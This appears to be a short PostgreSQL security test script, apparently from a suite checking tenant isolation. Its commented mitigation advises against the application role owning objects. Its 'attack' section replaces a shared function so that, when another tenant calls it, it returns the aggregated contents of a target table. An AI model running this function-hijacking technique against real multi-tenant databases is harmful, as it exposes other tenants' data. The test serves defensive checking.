-- what: replace the code that others run: functions, views, defaults that the same role owns
-- SPDX-License-Identifier: PostgreSQL
-- outcome: open
-- types: text
-- kinds: plain
-- do: the application's role owns nothing and has `CREATE` on no schema that others search; tenants with SQL of their own get roles of their own
-- attack
CREATE FUNCTION scratch.helper() RETURNS text LANGUAGE sql AS $$ SELECT 'innocent' $$;
\echo want 00000 got :SQLSTATE
SELECT format('CREATE OR REPLACE FUNCTION scratch.helper() RETURNS text LANGUAGE sql AS %L', 'SELECT string_agg(body, '','') FROM ' || :'t') \gexec
SET tenancy.tenant_id = :'other';
SELECT scratch.helper();
